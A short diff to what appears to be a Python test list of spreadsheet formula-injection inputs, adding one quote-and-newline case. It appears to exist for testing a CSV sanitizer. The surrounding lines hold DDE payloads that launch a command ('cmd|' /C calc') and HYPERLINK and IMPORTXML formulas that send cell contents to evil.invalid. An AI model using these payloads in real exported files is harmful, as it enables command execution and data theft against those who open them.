@@ -12,6 +12,7 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
     "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\t", " =1+1", "\u00a0=1+1",
     "\u200b=1+1", "\ufeff=1+1", "\u200f=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "−1", "=", "-", "'=1+1", "''=1+1",
+    "'\n",
     '"=1+1"', "=1+1;2", "harmless;=1+1;", "harmless,=1+1,", "harmless\t@SUM(A1)", "harmless\n=1+1", "harmless;'=1+1",
     "{=1+1}", '=IMPORTXML(CONCAT("http://evil.invalid?",A1),"//a")', '=DDE("cmd";"/C calc";"x")',
 )  # fmt: skip
